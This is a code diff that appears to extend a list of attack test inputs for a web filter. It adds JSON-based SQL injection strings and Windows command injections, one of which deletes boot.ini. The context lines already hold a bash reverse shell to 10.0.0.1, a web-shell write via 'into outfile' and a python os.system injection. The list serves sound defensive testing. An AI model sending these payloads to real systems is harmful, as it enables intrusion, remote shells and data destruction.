@@ -27,6 +27,8 @@ VALUES: Final[dict[str, tuple[bytes, ...]]] = {
         b"1 into outfile '/var/www/shell.php'",
         b"1'\xa0OR\xa01=1--",
         b"1\tor\n1=1",
+        b'1 OR \'{"a":1}\'::jsonb <@ \'{"a":1,"b":2}\'::jsonb',
+        b"1' or json_extract('{\"a\":1}', '$.a') = 1",
     ),
     "script": (
         b"<script>alert(1)</script>",
@@ -93,6 +95,8 @@ VALUES: Final[dict[str, tuple[bytes, ...]]] = {
         b";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         b"a;python3 -c 'import os;os.system(\"id\")'",
         b"x;sleep 10",
+        b"for %i in (C:\\*) do type %i",
+        b"if exist C:\\boot.ini del C:\\boot.ini",
     ),
 }
 """Each is sent in a query, a form, JSON, a multipart form and XML."""
